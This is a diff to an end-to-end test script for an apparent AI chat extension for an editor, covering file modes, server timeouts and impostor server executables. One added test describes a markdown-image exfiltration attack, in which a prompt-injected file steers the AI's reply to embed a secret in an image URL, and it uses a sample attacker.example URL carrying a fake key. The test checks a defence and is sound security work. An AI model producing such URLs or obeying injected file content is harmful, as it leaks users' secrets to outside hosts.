@@ -163,7 +163,7 @@ const userData = path.join(tmp, 'user-data');
 const extensionsDir = path.join(tmp, 'extensions');
 const home = path.join(tmp, 'home');
 for (const dir of [hermesHome, workspace, path.join(userData, 'User'), extensionsDir, home]) {
-  fs.mkdirSync(dir, { recursive: true });
+  fs.mkdirSync(dir, { recursive: true, mode: 0o755 });
 }
 fs.writeFileSync(
   path.join(hermesHome, 'config.yaml'),
@@ -224,6 +224,7 @@ const baseSettings = {
   'workbench.colorTheme': 'Default Dark Modern',
   'hermes.server.path': daemon.path,
   'hermes.server.args': daemon.args,
+  'hermes.server.initializeTimeout': 2,
 };
 fs.writeFileSync(settingsFile, JSON.stringify(baseSettings, null, 2));
 
@@ -467,6 +468,34 @@ await step('an upstream failure shows inline with the daemon hint', async () => 
   await shot('05-chat-error');
 });
 
+await step('a reply cannot make the editor fetch a URL: remote images render as links', async () => {
+  // The markdown-image exfiltration attack: a reply (steered by a prompt-injected file) embeds a secret in an image URL.
+  const exfil = 'https://attacker.example/collect?d=sk-exfil-123';
+  await upstreamPost('/__config', { reply_text: `Summary done. ![status](${exfil}) ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)`, chunk_count: 3, chunk_delay: 0, routed_model: null });
+  await sendPrompt('Summarise the file.');
+  await waitForIdle();
+  const reply = lastReply();
+  await reply.locator('a.image-link').first().waitFor({ timeout: 10_000 });
+  const images = await reply.locator('img').evaluateAll((els) => els.map((el) => el.getAttribute('src') ?? ''));
+  const remote = images.filter((src) => !src.startsWith('data:'));
+  if (remote.length !== 0 || images.length !== 1) {
+    throw new Error(`images in the reply: ${JSON.stringify(images)}`);
+  }
+  const href = await reply.locator('a.image-link').first().getAttribute('href');
+  if (href !== exfil) {
+    throw new Error(`the remote image is not a plain link: ${href}`);
+  }
+  const csp = (await chat.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
+  const imgSrc = (csp.split(';').map((d) => d.trim()).find((d) => d.startsWith('img-src ')) ?? '').split(/\s+/).slice(1);
+  // Allowed: data: and webview.cspSource, the extension's own resources ('self' and VS Code's
+  // resource host, https://*.vscode-cdn.net in code-server); no scheme-wide or other host.
+  const own = (t) => t === "'self'" || /^https:\/\/[^\s/]*\.vscode-(cdn|resource)\.[^\s/]*$/.test(t);
+  const foreign = imgSrc.filter((t) => t !== 'data:' && !own(t));
+  if (imgSrc.length === 0 || foreign.length !== 0 || imgSrc.some((t) => /^(https?:|\*)$/.test(t))) {
+    throw new Error(`img-src allows remote images: ${JSON.stringify(imgSrc)}`);
+  }
+});
+
 await step('New Chat clears the conversation', async () => {
   await chat.locator('#new-chat').click();
   await waitFor('an empty transcript', async () => (await chat.locator('article.entry').count()) === 0, 5_000);
@@ -535,7 +564,8 @@ await step('Ask About Selection sends the code with its file name', async () => 
 
 await step('a plugin added elsewhere shows up in the picker (hermes/providersChanged)', async () => {
   const pluginDir = path.join(hermesHome, 'plugins/model-providers/acme-inference');
-  fs.mkdirSync(pluginDir, { recursive: true });
+  // Modes set explicitly: hermesd refuses a plugin others could write, whatever the umask.
+  fs.mkdirSync(pluginDir, { recursive: true, mode: 0o755 });
   fs.writeFileSync(
     path.join(pluginDir, '__init__.py'),
     [
@@ -552,6 +582,7 @@ await step('a plugin added elsewhere shows up in the picker (hermes/providersCha
       '))',
       '',
     ].join('\n'),
+    { mode: 0o644 },
   );
   // The next session re-reads the plugin directories; hermesd then sends
   // hermes/providersChanged to every connected editor.
@@ -619,17 +650,55 @@ await step('a missing hermesd gets an actionable message, and fixing the setting
   const toast = page.locator('.notifications-toasts .notification-toast', { hasText: 'Hermes could not start its server' });
   await toast.first().waitFor({ timeout: 20_000 });
   const text = (await toast.first().textContent()) ?? '';
-  for (const expected of ['pip install hermesd', 'Install with pip', 'Open Settings', 'Restart']) {
+  for (const expected of ['pip install hermesd-lsp', 'Install with pip', 'Open Settings', 'Restart']) {
     if (!text.includes(expected)) {
       throw new Error(`notification lacks "${expected}": ${text}`);
     }
   }
-  await chat.locator('#server-banner:not(.hidden)', { hasText: 'pip install hermesd' }).waitFor({ timeout: 10_000 });
+  await chat.locator('#server-banner:not(.hidden)', { hasText: 'pip install hermesd-lsp' }).waitFor({ timeout: 10_000 });
   await page.locator('.statusbar-item', { hasText: 'Hermes' }).first().waitFor();
   await shot('11-server-not-found');
   await setServerPath(daemon.path);
   await waitFor('the server to come back', async () => (await page.locator('.statusbar-item', { hasText: 'pareto-code' }).count()) > 0, 30_000);
   await chat.locator('#server-banner.hidden').waitFor({ state: 'attached', timeout: 10_000 });
+});
+
+// Programs called hermesd that are not hermesd's server (tests/editors/impostors.py
+// writes them; HERMES_TEST_IMPOSTORS maps each case to its directory).
+await step('a program called hermesd that is not hermesd is refused within seconds, naming the executable', async () => {
+  const impostors = JSON.parse(process.env.HERMES_TEST_IMPOSTORS ?? 'null');
+  if (!impostors) {
+    throw new Error('HERMES_TEST_IMPOSTORS is not set');
+  }
+  const problems = {
+    hang: 'did not answer the LSP initialize request within 2 s',
+    noise: 'printed "hermesd 2026.9.26: TUI monitoring dashboard for Hermes AI agent" instead of answering the LSP initialize request within 2 s',
+    other: 'answered initialize as "hermesd-dashboard", without a hermes protocol version',
+  };
+  for (const [name, problem] of Object.entries(problems)) {
+    await closeNotifications();
+    const exe = path.join(impostors[name], 'hermesd');
+    await setServerPath(exe);
+    const toast = page.locator('.notifications-toasts .notification-toast', { hasText: `Hermes started ${exe}` });
+    await toast.first().waitFor({ timeout: 15_000 });
+    const text = (await toast.first().textContent()) ?? '';
+    for (const expected of [problem, 'pip install hermesd-lsp', 'hermes.server.path', 'Open Settings', 'Show Logs']) {
+      if (!text.includes(expected)) {
+        throw new Error(`${name}: notification lacks "${expected}": ${text}`);
+      }
+    }
+    await chat.locator('#server-banner:not(.hidden)', { hasText: exe }).waitFor({ timeout: 10_000 });
+    if (name === 'noise') {
+      await shot('12-not-hermesd');
+    }
+    // One message, Hermes' own: the language client's generic one stays in the log.
+    const generic = await page.locator('.notifications-toasts .notification-toast', { hasText: "couldn't create connection" }).count();
+    if (generic) {
+      throw new Error(`${name}: the language client's "couldn't create connection" toast is shown too`);
+    }
+  }
+  await setServerPath(daemon.path);
+  await waitFor('the server to come back', async () => (await page.locator('.statusbar-item', { hasText: 'pareto-code' }).count()) > 0, 30_000);
 });
 
 await browser.close();
